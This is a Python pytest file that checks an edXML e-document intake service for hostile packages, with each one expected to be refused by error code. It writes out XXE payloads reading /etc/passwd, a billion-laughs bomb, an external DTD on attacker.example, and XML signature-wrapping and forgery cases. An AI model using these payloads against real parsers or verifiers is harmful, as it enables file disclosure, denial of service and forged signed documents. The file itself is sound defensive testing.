"""Hostile packages: each is refused with its own stable error code, and none crashes the axis.

Every case is what an attacker (or a badly broken SDK) could send to intake. The table reads as a
threat list: the input, and the code the vendor sees.
"""

from __future__ import annotations

import base64
import copy
import datetime as dt
import tempfile
from collections.abc import Callable
from dataclasses import dataclass

import builders
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.x509.oid import NameOID
from lxml import etree
from signxml import DigestAlgorithm, SignatureMethod, XMLSigner, methods

from axis import pki
from axis.edxml import Limits, build, sign, verify, xmlsafe
from axis.edxml import model as m
from axis.edxml.namespaces import ds, ed
from axis.edxml.trust import TrustAnchors
from axis.errors import AxisError


@dataclass
class Keys:
    north: pki.Identity
    expired: pki.Identity
    stranger: pki.Identity
    ca: pki.Identity


@pytest.fixture(scope="module")
def keys(north: pki.Identity, expired: pki.Identity, stranger: pki.Identity, dev_ca: pki.Identity) -> Keys:
    return Keys(north, expired, stranger, dev_ca)


def signed(keys: Keys, package: m.Package | None = None) -> bytes:
    return sign(build(package or builders.document()), keys.north.key, keys.north.cert_chain)


def signed_after(keys: Keys, old: bytes, new: bytes) -> bytes:
    """A package whose *signed* content breaks a rule: what a buggy SDK sends."""
    unsigned = build(builders.document())
    assert old in unsigned
    return sign(unsigned.replace(old, new, 1), keys.north.key, keys.north.cert_chain)


def tree(data: bytes) -> etree._Element:
    return etree.fromstring(data)


def serialize(root: etree._Element) -> bytes:
    return bytes(etree.tostring(root, xml_declaration=True, encoding="UTF-8"))


def header(root: etree._Element) -> etree._Element:
    found = root.find(f"{ed('edXMLEnvelope')}/{ed('edXMLHeader')}")
    assert found is not None
    return found


# --- the cases ------------------------------------------------------------------------------------------


def xxe(_: Keys) -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE edXML [<!ENTITY x SYSTEM "file:///etc/passwd">]><edXML>&x;</edXML>'


def billion_laughs(_: Keys) -> bytes:
    entities = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    return f'<!DOCTYPE edXML [<!ENTITY l0 "lol">{entities}]><edXML>&l9;</edXML>'.encode()


def external_dtd(keys: Keys) -> bytes:
    return b'<!DOCTYPE edXML SYSTEM "http://attacker.example/edxml.dtd">' + build(builders.document())[38:]


def doctype_after_comment(_: Keys) -> bytes:
    return b'<?xml version="1.0"?><!-- hello --><!DOCTYPE edXML [<!ENTITY % p SYSTEM "http://x/">%p;]><edXML/>'


def undeclared_entity(keys: Keys) -> bytes:
    return signed(keys).replace(b"<edXML:Subject>", b"<edXML:Subject>&secret;")


def bad_utf8(keys: Keys) -> bytes:
    return signed(keys).replace("Thử".encode(), b"Th\xff\xfe", 1)


def utf16(keys: Keys) -> bytes:
    return build(builders.document()).decode().replace("UTF-8", "UTF-16").encode("utf-16")


def latin1_declared(keys: Keys) -> bytes:
    return build(builders.document()).replace(b"encoding='UTF-8'", b"encoding='ISO-8859-1'")


def truncated(keys: Keys) -> bytes:
    data = signed(keys)
    return data[: len(data) // 2]


def empty(_: Keys) -> bytes:
    return b"  \n"


def not_xml(_: Keys) -> bytes:
    return b'{"DocumentId": "000.00.00.H98,2026/11/20,1/X"}'


def deep_nesting(keys: Keys) -> bytes:
    return signed(keys).replace(b"<edXML:Subject>", b"<edXML:Subject>" + b"<b>" * 5000 + b"</b>" * 5000)


def wrong_root(keys: Keys) -> bytes:
    root = tree(build(builders.document()))
    return serialize(root[0])  # the envelope without its edXML root


def wrong_namespace(keys: Keys) -> bytes:
    return build(builders.document()).replace(b"http://www.mic.gov.vn/TBT/QCVN_102_2016", b"urn:edxml:v2")


def malformed_agency_code(keys: Keys) -> bytes:
    return signed(keys).replace(b">000.00.00.H99<", b">000.1137.H99<")


def agency_code_skipping_a_level(keys: Keys) -> bytes:
    return signed_after(keys, b">000.00.00.H99<", b">001.00.05.H99<")


def unknown_status_code(keys: Keys) -> bytes:
    return sign(build(builders.status()), keys.north.key, keys.north.cert_chain).replace(
        b"StatusCode>01<", b"StatusCode>07<"
    )


def unknown_business_type(keys: Keys) -> bytes:
    return signed(keys).replace(b"BussinessDocType>0<", b"BussinessDocType>7<")


def bad_base64(keys: Keys) -> bytes:
    return signed_after(keys, base64.b64encode(b"noi dung thu"), b"@@not*base64@@")


def impossible_date(keys: Keys) -> bytes:
    return signed_after(keys, b"<edXML:PromulgationDate>2026/11/20", b"<edXML:PromulgationDate>2026/02/30")


def document_id_of_another_sender(keys: Keys) -> bytes:
    return signed_after(keys, b">000.00.00.H98,2026/11/20", b">000.00.00.H99,2026/11/20")


def manifest_without_attachment(keys: Keys) -> bytes:
    root = tree(build(builders.document()))
    encoded = root.find(ed("AttachmentEncoded"))
    assert encoded is not None
    root.remove(encoded)
    return sign(serialize(root), keys.north.key, keys.north.cert_chain)


def oversize(keys: Keys) -> bytes:
    return signed(keys)  # checked against a 4 KB limit (SMALL_LIMITS)


def too_many_elements(keys: Keys) -> bytes:
    return signed(keys).replace(b"<edXML:ToPlaces>", b"<edXML:ToPlaces>" + b"<edXML:Place/>" * 3000)


def missing_signature(keys: Keys) -> bytes:
    return build(builders.document())


def untrusted_certificate(keys: Keys) -> bytes:
    return sign(build(builders.document()), keys.stranger.key, keys.stranger.cert_chain)


def expired_certificate(keys: Keys) -> bytes:
    return sign(build(builders.document()), keys.expired.key, keys.expired.cert_chain)


def certificate_not_for_signing(keys: Keys) -> bytes:
    identity = keys.north
    now = dt.datetime.now(dt.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.USER_ID, "000.00.00.H98")]))
        .issuer_name(keys.ca.certificate.subject)
        .public_key(identity.key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(hours=1))
        .not_valid_after(now + dt.timedelta(days=30))
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .add_extension(x509.KeyUsage(False, False, True, False, False, False, False, False, False), critical=True)
        .sign(keys.ca.key, hashes.SHA256())
    )
    return sign(build(builders.document()), identity.key, [cert])


def valid_signature_over_another_element(keys: Keys) -> bytes:
    root = tree(build(builders.document()))
    traces = header(root).find(ed("TraceHeaderList"))
    assert traces is not None
    traces.set("id", "trace")
    return _sign_reference(keys, root, "#trace")


EXC = "http://www.w3.org/2001/10/xml-exc-c14n#"


def _sign_reference(keys: Keys, root: etree._Element, uri: str) -> bytes:
    etree.SubElement(header(root), ds("Signature"), Id="placeholder")
    signer = XMLSigner(method=methods.enveloped, c14n_algorithm=EXC)
    cert = pki.cert_pem(keys.north.certificate).decode()
    return serialize(signer.sign(root, key=keys.north.key, cert=cert, reference_uri=uri))


def second_signature(keys: Keys) -> bytes:
    root = tree(signed(keys))
    signature = header(root).find(ds("Signature"))
    assert signature is not None
    wrapper = etree.SubElement(header(root), ed("DigitalSignature"))
    wrapper.append(copy.deepcopy(signature))
    return serialize(root)


def signature_moved_into_attachments(keys: Keys) -> bytes:
    root = tree(signed(keys))
    signature = header(root).find(ds("Signature"))
    assert signature is not None
    attachment = root.find(f"{ed('AttachmentEncoded')}/{ed('Attachment')}")
    assert attachment is not None
    attachment.append(signature)
    return serialize(root)


def signature_copied_onto_forged_content(keys: Keys) -> bytes:
    """The genuine signature element spliced byte for byte (prefixes intact) into forged content."""
    genuine = tree(signed(keys))
    signature = header(genuine).find(ds("Signature"))
    assert signature is not None
    forged = build(builders.document(subject="Lệnh chuyển tiền khẩn"))
    end = b"</edXML:edXMLHeader>"
    return forged.replace(end, etree.tostring(signature) + end)


def original_nested_in_forged_envelope(keys: Keys) -> bytes:
    """Forged content on top, the genuine signed package hidden inside it for a naive verifier
    that looks for "a signature somewhere" to find and accept."""
    genuine = tree(signed(keys))
    forged = tree(build(builders.document(subject="Giả mạo")))
    content = forged.find(f".//{ed('Content')}")
    assert content is not None
    content.append(genuine)
    return serialize(forged)


def tampered_subject(keys: Keys) -> bytes:
    return signed(keys).replace("triển khai".encode(), "trién khai".encode(), 1)


def tampered_attachment(keys: Keys) -> bytes:
    data = signed(keys)
    at = data.index(b"<edXML:ContentTransferEncoded>") + len(b"<edXML:ContentTransferEncoded>") + 2
    return data[:at] + (b"A" if data[at : at + 1] != b"A" else b"B") + data[at + 1 :]


def recipient_added_after_signing(keys: Keys) -> bytes:
    return signed(keys).replace(
        b"<edXML:Code>", b"<edXML:To><edXML:OrganId>000.00.00.G01</edXML:OrganId></edXML:To><edXML:Code>", 1
    )


def tampered_signature_value(keys: Keys) -> bytes:
    root = tree(signed(keys))
    value = root.find(f".//{ds('SignatureValue')}")
    assert value is not None
    assert value.text
    raw = bytearray(base64.b64decode(value.text))
    raw[10] ^= 0x01
    value.text = base64.b64encode(bytes(raw)).decode()
    return serialize(root)


def non_ascii_signature_value(keys: Keys) -> bytes:
    """Found by the fuzzer: a right-to-left override as the SignatureValue; signxml's b64decode
    raised a bare ValueError (a 500) instead of a refusal."""
    root = tree(signed(keys))
    value = root.find(f".//{ds('SignatureValue')}")
    assert value is not None
    value.text = "\u202e"
    return serialize(root)


def empty_signature_value(keys: Keys) -> bytes:
    """Found by the fuzzer: the schema lets an empty base64 value through, and signxml then fails
    with a TypeError (a 500) instead of a refusal."""
    root = tree(signed(keys))
    value = root.find(f".//{ds('SignatureValue')}")
    assert value is not None
    value.text = ""
    return serialize(root)


def empty_digest_value(keys: Keys) -> bytes:
    root = tree(signed(keys))
    value = root.find(f".//{ds('DigestValue')}")
    assert value is not None
    value.text = None
    return serialize(root)


def sha1_under_strict_policy(keys: Keys) -> bytes:
    return sign(
        build(builders.document()),
        keys.north.key,
        keys.north.cert_chain,
        signature_method=SignatureMethod.RSA_SHA1,
        digest=DigestAlgorithm.SHA1,
    )


def hmac_signature(keys: Keys) -> bytes:
    root = tree(build(builders.document()))
    etree.SubElement(header(root), ds("Signature"), Id="placeholder")
    signer = XMLSigner(method=methods.enveloped, signature_algorithm="hmac-sha256", c14n_algorithm=EXC)
    return serialize(signer.sign(root, key=b"shared secret everyone knows"))


def key_value_without_certificate(keys: Keys) -> bytes:
    root = tree(build(builders.document()))
    etree.SubElement(header(root), ds("Signature"), Id="placeholder")
    signer = XMLSigner(method=methods.enveloped, c14n_algorithm=EXC)
    return serialize(signer.sign(root, key=keys.north.key))


def garbage_certificate(keys: Keys) -> bytes:
    root = tree(signed(keys))
    cert = root.find(f".//{ds('X509Certificate')}")
    assert cert is not None
    cert.text = base64.b64encode(b"MIIFqTCCBJG, truncated as in the SDK samples").decode()
    return serialize(root)


CASES: list[tuple[Callable[[Keys], bytes], str]] = [
    (xxe, "edxml.xml.dtd_forbidden"),
    (billion_laughs, "edxml.xml.dtd_forbidden"),
    (external_dtd, "edxml.xml.dtd_forbidden"),
    (doctype_after_comment, "edxml.xml.dtd_forbidden"),
    (undeclared_entity, "edxml.xml.entity_forbidden"),
    (bad_utf8, "edxml.xml.bad_utf8"),
    (utf16, "edxml.xml.encoding"),
    (latin1_declared, "edxml.xml.encoding"),
    (truncated, "edxml.xml.malformed"),
    (empty, "edxml.xml.empty"),
    (not_xml, "edxml.xml.malformed"),
    (oversize, "edxml.xml.too_large"),
    (deep_nesting, "edxml.xml.too_deep"),
    (too_many_elements, "edxml.xml.too_many_elements"),
    (wrong_root, "edxml.root.wrong_element"),
    (wrong_namespace, "edxml.root.wrong_namespace"),
    (malformed_agency_code, "edxml.agency_code.malformed"),
    (agency_code_skipping_a_level, "edxml.agency_code.malformed"),
    (unknown_status_code, "edxml.status_code.unknown"),
    (unknown_business_type, "edxml.business_doc_type.unknown"),
    (bad_base64, "edxml.attachment.bad_base64"),
    (impossible_date, "edxml.date.invalid"),
    (document_id_of_another_sender, "edxml.document_id.sender_mismatch"),
    (manifest_without_attachment, "edxml.attachment.missing"),
    (missing_signature, "signature.missing"),
    (untrusted_certificate, "signature.certificate.untrusted"),
    (expired_certificate, "signature.certificate.expired"),
    (certificate_not_for_signing, "signature.certificate.key_usage"),
    (valid_signature_over_another_element, "signature.reference.not_whole_document"),
    (second_signature, "signature.multiple"),
    (signature_moved_into_attachments, "signature.location"),
    (signature_copied_onto_forged_content, "signature.digest_mismatch"),
    (original_nested_in_forged_envelope, "signature.location"),
    (tampered_subject, "signature.digest_mismatch"),
    (tampered_attachment, "signature.digest_mismatch"),
    (recipient_added_after_signing, "signature.digest_mismatch"),
    (tampered_signature_value, "signature.invalid"),
    (empty_signature_value, "signature.malformed"),
    (non_ascii_signature_value, "signature.malformed"),
    (empty_digest_value, "signature.malformed"),
    (sha1_under_strict_policy, "signature.algorithm.forbidden"),
    (hmac_signature, "signature.algorithm.forbidden"),
    (key_value_without_certificate, "signature.certificate.missing"),
    (garbage_certificate, "signature.certificate.malformed"),
]


# Limits small enough that a test package crosses them (defaults are 100 MB and 100,000 elements).
SMALL_LIMITS = {oversize: Limits(max_bytes=4096), too_many_elements: Limits(max_elements=1000)}


@pytest.mark.parametrize(("make", "code"), CASES, ids=[make.__name__ for make, _ in CASES])
def test_hostile_package_is_refused_with_its_code(
    make: Callable[[Keys], bytes], code: str, keys: Keys, trust: TrustAnchors
) -> None:
    limits = SMALL_LIMITS.get(make, Limits())
    with pytest.raises(AxisError) as refused:
        verify(make(keys), trust, limits=limits)
    assert refused.value.code == code, refused.value.message
    assert refused.value.message


@pytest.mark.parametrize(("make", "code"), CASES, ids=[make.__name__ for make, _ in CASES])
def test_hostile_package_spooled_to_a_file_is_refused_with_the_same_code(
    make: Callable[[Keys], bytes], code: str, keys: Keys, trust: TrustAnchors
) -> None:
    """A large package is checked from the temporary file it was spooled to: every threat gets
    the same refusal that way, read a chunk at a time, as from bytes in memory."""
    limits = SMALL_LIMITS.get(make, Limits())
    with tempfile.TemporaryFile() as spooled:
        spooled.write(make(keys))
        with pytest.raises(AxisError) as refused:
            verify(spooled, trust, limits=limits)
    assert refused.value.code == code, refused.value.message


def test_a_doctype_after_a_prolog_longer_than_a_chunk_is_still_refused_before_parsing(keys: Keys) -> None:
    """The prolog check reads on when the prolog does not end within the first chunk read."""
    data = signed(keys)
    body = data.split(b"?>", 1)[1]
    hostile = (
        b"<?xml version='1.0' encoding='UTF-8'?>" + b"<!--" + b"x" * (1 << 20) + b"-->" + b"<!DOCTYPE edXML>" + body
    )
    with tempfile.TemporaryFile() as spooled:
        spooled.write(hostile)
        with pytest.raises(AxisError) as refused:
            xmlsafe.parse_file(spooled)
    assert refused.value.code == "edxml.xml.dtd_forbidden"


def test_a_large_package_verifies_the_same_from_a_file_as_from_memory(keys: Keys, trust: TrustAnchors) -> None:
    big = m.Attachment("1", "lon.pdf", "application/pdf", "QUJD" * 600_000)  # 2.4 MB
    data = sign(build(builders.document(attachments=(big,))), keys.north.key, keys.north.cert_chain)
    with tempfile.TemporaryFile() as spooled:
        spooled.write(data)
        from_file = verify(spooled, trust)
    assert from_file == verify(data, trust)


def test_the_threat_list_is_long_enough() -> None:
    assert len(CASES) >= 25


def test_comment_inside_signed_text_cannot_change_what_is_read(keys: Keys, trust: TrustAnchors) -> None:
    """A comment splitting a signed value leaves the digest intact (C14N drops comments): the axis
    must read the value that was signed, not the text before the comment."""
    data = signed(keys).replace(b">000.00.00.H99<", b">000.00.00.H9<!-- -->9<", 1)
    package = verify(data, trust).package
    assert isinstance(package, m.DocumentPackage)
    assert package.recipients[0].organ_id == "000.00.00.H99"


def test_bad_base64_deep_in_a_large_attachment_is_found(keys: Keys, trust: TrustAnchors) -> None:
    big = m.Attachment("1", "lon.pdf", "application/pdf", "QUJD" * 500_000 + "!!!!")  # 2 MB
    data = sign(build(builders.document(attachments=(big,))), keys.north.key, keys.north.cert_chain)
    with pytest.raises(AxisError) as refused:
        verify(data, trust)
    assert refused.value.code == "edxml.attachment.bad_base64"
    assert len(refused.value.message) < 300
